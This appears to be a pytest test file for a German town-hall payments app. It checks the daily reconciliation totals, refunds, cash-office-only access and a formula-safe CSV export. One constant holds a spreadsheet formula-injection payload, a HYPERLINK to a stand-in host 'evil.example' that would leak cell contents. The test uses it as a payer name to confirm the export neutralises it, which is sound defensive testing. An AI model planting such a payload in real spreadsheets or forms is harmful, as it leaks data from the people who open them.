"""The daily reconciliation (Tagesabschluss): money counted once, a double payment once as paid
and once as paid back, a partial refund, what was not applied, and the CSV for the cash office
(German Excel, formula-safe)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.utils import timezone

from rathaus.payments import refunds, report, services
from rathaus.payments.models import PaymentRequest, Refund
from rathaus.payments.providers.base import Notice, PaymentInformation, TransactionStatus
from rathaus.payments.services import ItemSpec
from tests.factories import PASSWORD, AuthorityFactory, CashOfficeFactory, OrgUnitFactory
from tests.support import clerk_of, log_in

pytestmark = pytest.mark.django_db

BASE = "/verwaltung/zahlungen/abgleich/"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")'


def paid_notice(request, transaction, event):
    return Notice(
        event_id=event,
        payment=PaymentInformation(
            transaction_id=transaction, status=TransactionStatus.PAYED,
            gross_amount_cents=request.amount_cents, currency="EUR",
            request_id=str(request.pk), payment_method="giropay",
        ),
    )  # fmt: skip


def make(authority, amount, payer="Ilse Beispiel"):
    request, _ = services.create_request(
        authority=authority, items=[ItemSpec("Urkunde", 1, amount)], purpose="Urkunde",
        payer_name=payer,
    )  # fmt: skip
    return request


@pytest.fixture
def day_of_payments():
    unit = OrgUnitFactory()
    authority = unit.authority
    CashOfficeFactory(authority=authority, provider="invoice")
    twice = make(authority, 1200, payer=INJECTION)
    services.apply("invoice", paid_notice(twice, "t-1", "e-1"), b"{}")
    services.apply("invoice", paid_notice(twice, "t-1", "e-1"), b"{}")  # repeated
    services.apply("invoice", paid_notice(twice, "t-2", "e-2"), b"{}")  # paid a second time
    partly = make(authority, 2000)
    services.mark_received(partly, user=None, note="Kasse")
    refunds.refund(partly, 500, user=None, note="Teilerlass")
    cancelled = make(authority, 700)
    services.cancel(cancelled, note="zurückgenommen")
    failed = make(authority, 900)
    services.apply("invoice", Notice(event_id="e-3", payment=PaymentInformation(
        transaction_id="t-3", status=TransactionStatus.FAILED, gross_amount_cents=900,
        currency="EUR", request_id=str(failed.pk))), b"{}")  # fmt: skip
    expired = make(authority, 300)
    PaymentRequest.objects.filter(pk=expired.pk).update(due_at=timezone.now() - dt.timedelta(1))
    services.expire_due()
    make(authority, 400)  # open
    services.apply("invoice", Notice(event_id="e-x", payment=PaymentInformation(
        transaction_id="t-x", status=TransactionStatus.PAYED, gross_amount_cents=100,
        currency="EUR", request_id="")), b'{"unknown": true}')  # fmt: skip
    services.record_rejected("invoice", b"forged", "signature does not match")
    other = AuthorityFactory()
    CashOfficeFactory(authority=other, provider="invoice")
    services.mark_received(make(other, 99_900), user=None)
    user = clerk_of(unit, "kasse")
    user.user_permissions.add(
        *Permission.objects.filter(content_type__app_label="payments",
                                   codename__in=["view_paymentrequest"])
    )  # fmt: skip
    return authority, twice, partly


def test_money_is_counted_once_and_refunds_apart(day_of_payments):
    authority, twice, partly = day_of_payments
    daily = report.daily(authority, timezone.localdate())
    assert (daily.paid_total.count, daily.paid_total.cents) == (2, 3200)
    assert [(line.provider, line.method, line.count, line.cents) for line in daily.paid] == [
        ("vor Ort oder per Überweisung bezahlen", "giropay", 1, 1200),
        (
            "vor Ort oder per Überweisung bezahlen",
            "bei der Kasse eingegangen (bar, mit Karte oder per Überweisung)",
            1,
            2000,
        ),
    ]
    other = {line.label: (line.count, line.cents) for line in daily.other}
    assert other == {
        "offen am Ende des Tages": (2, 1300),
        "fehlgeschlagen": (1, 900),
        "storniert": (1, 700),
        "abgelaufen": (1, 300),
    }
    assert (daily.staff_refunds.count, daily.staff_refunds.cents) == (1, 500)
    assert (daily.returned.count, daily.returned.cents) == (1, 1200)
    assert daily.kept_cents == 2700
    assert [r.reason for r in daily.refunds] == [Refund.Reason.DOUBLE, Refund.Reason.STAFF]
    assert [p.pk for p in daily.paid_requests] == [twice.pk, partly.pk]
    assert sorted(n.outcome for n in daily.unmatched) == ["rejected", "unknown"]
    yesterday = report.daily(authority, timezone.localdate() - dt.timedelta(days=1))
    assert yesterday.paid_total.count == 0
    assert yesterday.refunds == []
    assert yesterday.unmatched == []


def test_the_page_shows_the_sums_and_every_payment(day_of_payments):
    _authority, twice, partly = day_of_payments
    client = log_in(Client(), "kasse", PASSWORD)
    html = client.get(BASE).content.decode()
    assert "Tagesabschluss" in html
    assert twice.kassenzeichen in html
    assert partly.kassenzeichen in html
    assert "32,00\u00a0€" in html
    assert "27,00\u00a0€" in html
    assert "signature does not match" in html
    assert "99.900,00" not in html
    earlier = client.get(BASE, {"tag": "2001-02-03"}).content.decode()
    assert "An diesem Tag wurde nichts bezahlt." in earlier
    assert client.get(BASE, {"tag": "kein-tag"}).status_code == 200


def test_the_csv_is_for_german_excel_and_formula_safe(day_of_payments):
    authority, twice, _partly = day_of_payments
    client = log_in(Client(), "kasse", PASSWORD)
    day = timezone.localdate().isoformat()
    response = client.get(BASE + "tagesabschluss.csv", {"tag": day})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f"tagesabschluss-{authority.slug}-{day}.csv" in response["Content-Disposition"]
    raw = response.content.decode("utf-8")
    assert raw.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(raw[1:]), delimiter=";"))
    assert rows[0] == ["Tagesabschluss", authority.name, day]
    sums = {row[0]: row[3:] for row in rows[3:13] if row}
    assert sums["bezahlt, gesamt"] == ["2", "32,00"]
    assert sums["erstattet durch Beschäftigte"] == ["1", "5,00"]
    paid = [row for row in rows if row and row[0] == twice.kassenzeichen and len(row) == 8]
    assert len(paid) == 1
    _kassenzeichen, amount, paid_at, _provider, transaction, method, payer, purpose = paid[0]
    assert (amount, transaction, method, purpose) == ("12,00", "t-1", "giropay", "Urkunde")
    assert dt.datetime.fromisoformat(paid_at).date().isoformat() == day
    assert payer == "'" + INJECTION
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_reconciliation_is_for_the_cash_office_only(day_of_payments):
    authority, _twice, _partly = day_of_payments
    clerk_of(OrgUnitFactory(authority=authority), "clerk")
    client = log_in(Client(), "clerk", PASSWORD)
    assert client.get(BASE).status_code == 403
    assert client.get(BASE + "tagesabschluss.csv").status_code == 403


def test_amounts_below_zero_are_written_as_amounts():
    assert [report.amount(c) for c in (-550, -1, 0, 1200, -120000)] == [
        "-5,50", "-0,01", "0,00", "12,00", "-1200,00",
    ]  # fmt: skip
    from rathaus.core.spreadsheets import formula_safe

    assert formula_safe("-5,50") == "-5,50"
    assert formula_safe("-5+1") == "'-5+1"
